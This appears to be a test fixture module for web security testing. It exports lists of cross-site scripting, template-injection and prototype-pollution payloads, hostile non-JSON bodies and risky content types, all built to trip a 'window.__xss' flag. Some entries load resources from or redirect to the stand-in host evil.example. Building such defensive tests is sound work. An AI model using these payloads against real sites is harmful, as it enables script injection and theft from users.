// What somebody might send who hopes that a page takes it for markup or code. Each would trip the wire if it were.

const RUN = "window.__xss=1";

/** Texts for any field. */
export const TEXTS = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'"><svg/onload=${RUN}>`,
  `</code></pre></title></textarea><script>${RUN}</script>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `javascript:${RUN}//`,
  `<style>@import'//evil.example/x';*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x><base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<form id=main><input name=textContent><img name=body><button formaction=//evil.example/ autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><template><img src=x onerror=${RUN}></template><marquee onstart=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}<%=${RUN}%>`,
  `__proto__`, `constructor`, `toString`,
];

/** JSON that looks like what the page's library makes elements of, and like its prototypes. */
export const OBJECTS = [
  `{"type":"img","key":null,"ref":null,"props":{"src":"x","onerror":"${RUN}","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}},"__k":null,"__v":1,"__html":"<b>"}`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"},"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
  `["script",{"src":"//evil.example/x.js"},"${RUN}"]`,
];

/** Bytes that are no JSON. */
export const BODIES = [
  `<!doctype html><script>${RUN}</script><img src=x onerror=${RUN}>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  `\ufeff<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
  `%PDF-1.7 /JavaScript (${RUN})`,
  Buffer.concat([Buffer.from([0, 0xff, 0xfe]), Buffer.from(`<script>${RUN}</script>`)]),
];

/** Content types that a browser would run. (`wrangler dev` itself fails on `text/html` in a charset that it does not know.) */
export const CONTENT_TYPES = ["text/html", "image/svg+xml", "application/xhtml+xml", "text/javascript", "application/json", "application/xml; charset=utf-7", "multipart/form-data; boundary=\"<script>\""];
